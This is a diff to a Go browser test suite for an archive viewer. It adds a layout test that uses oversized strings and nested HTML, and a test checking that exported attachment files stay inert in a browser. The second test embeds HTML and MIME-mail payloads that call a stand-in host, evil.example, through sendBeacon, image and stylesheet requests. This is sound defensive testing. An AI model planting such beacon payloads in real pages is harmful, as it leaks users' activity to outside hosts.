@@ -117,6 +117,38 @@ func TestBrowserPages(t *testing.T) {
 	assert.Len(t, places, len(hostile)+1)
 }
 
+// No text of a stranger makes a page wider than a small window, or a name taller than a few lines.
+func TestBrowserNarrow(t *testing.T) {
+	b := startBrowser(t)
+	f := newFixture(t)
+	long := strings.Repeat("W", 3_000)
+	f.talk(1, map[string]any{"name": long, "email": long + "@example.com", long: long, "x": long}, long, long)
+	f.says(0, "hit "+long, buttons(long), f.file(7, long+".pdf", nil),
+		func(m *store.Message, raw map[string]any) {
+			m.Type, raw["context"] = long, map[string]any{"title": long}
+		})
+	f.says(11, "<table><tr>"+strings.Repeat("<td>"+long[:50], 50)+"</table><pre>"+long+"</pre>"+
+		strings.Repeat("<blockquote>", 100)+long+strings.Repeat("<ul><li>", 100)+long)
+	f.write(func(tx *store.Tx) error {
+		if err := tx.PutVerification(store.Verification{Checks: []store.Check{{Name: long, Result: long}}}); err != nil {
+			return err
+		}
+		return tx.PutOddity(store.Oddity{Operation: long, Subject: long, Error: long, Raw: []byte(long), SeenAt: f.at})
+	})
+	server := httptest.NewServer(Handler(f.archive, key, ""))
+	t.Cleanup(server.Close)
+	for _, width := range []int64{320, 1200} {
+		for _, path := range []string{"/", "/?q=hit", "/conversations/1", "/contacts/1", "/oddities", "/verification"} {
+			b.picture(server.URL+"/"+key+path, width, 700, "dark")
+			size, err := chromedp.Run(b.ctx, chromedp.Evaluate[[]int64](`[document.documentElement.scrollWidth,
+				Math.max(...Array.from(document.querySelectorAll('h1, .name, dd, .tags'), e => e.offsetHeight))]`))
+			require.NoError(t, err)
+			assert.LessOrEqual(t, size[0], width, path)
+			assert.Less(t, size[1], int64(300), path)
+		}
+	}
+}
+
 // The form works without scripts.
 func TestBrowserSearch(t *testing.T) {
 	b := startBrowser(t)
@@ -134,7 +166,8 @@ func TestBrowserSearch(t *testing.T) {
 func TestBrowserFolder(t *testing.T) {
 	b := startBrowser(t)
 	dir := filepath.Join(t.TempDir(), "pages")
-	require.NoError(t, WriteFolder(t.Context(), hostileArchive(t).archive, store.Filter{}, dir))
+	_, err := WriteFolder(t.Context(), hostileArchive(t).archive, store.Filter{}, dir)
+	require.NoError(t, err)
 	root := "file://" + dir
 	for _, path := range []string{"/index.html", "/conversations/5.html", "/contacts/666.html", "/oddities.html"} {
 		b.do(chromedp.Navigate(root+path), chromedp.Sleep(settle))
@@ -146,6 +179,23 @@ func TestBrowserFolder(t *testing.T) {
 			if style.Name == "max-width" {
 				assert.Equal(t, "1216px", style.Value, path)
 			}
+		}
+	}
+}
+
+// A file of a folder does nothing in the browser, whatever is in it: it would act with the rights of the whole folder.
+func TestBrowserInertFiles(t *testing.T) {
+	b := startBrowser(t)
+	const page = "<!DOCTYPE html><script>navigator.sendBeacon('http://evil.example/')</script>" +
+		"<img src=http://evil.example/a><link rel=stylesheet href=http://evil.example/b>"
+	mail := strings.ReplaceAll("From: a@evil.example\nMIME-Version: 1.0\nContent-Type: text/html\n\n"+page, "\n", "\r\n")
+	for i, extension := range append(slices.Clone(inertFiles), ".html", ".svg", ".xml", ".mhtml", "") {
+		for j, content := range []string{page, mail} {
+			a := store.Attachment{ID: int64(2*i + j), Name: "file" + extension}
+			path := filepath.Join(t.TempDir(), filepath.Base(folderFile(a)))
+			require.NoError(t, os.WriteFile(path, []byte(content), 0o600))
+			_ = chromedp.Do(b.ctx, chromedp.Navigate("file://"+path), chromedp.Sleep(settle)) // a download is an error
+			assert.Empty(t, b.evil.take(), path)
 		}
 	}
 }
@@ -175,7 +225,7 @@ func TestScreenshot(t *testing.T) {
 	f.acme()
 	server := httptest.NewServer(Handler(f.archive, key, ""))
 	t.Cleanup(server.Close)
-	picture := startBrowser(t).picture(server.URL+"/"+key+"/conversations/4", 1000, 700, "light")
+	picture := startBrowser(t).picture(server.URL+"/"+key+"/conversations/4", 1000, 920, "light")
 	require.NoError(t, os.WriteFile(*screenshot, shrink(t, picture), 0o644))
 }
 
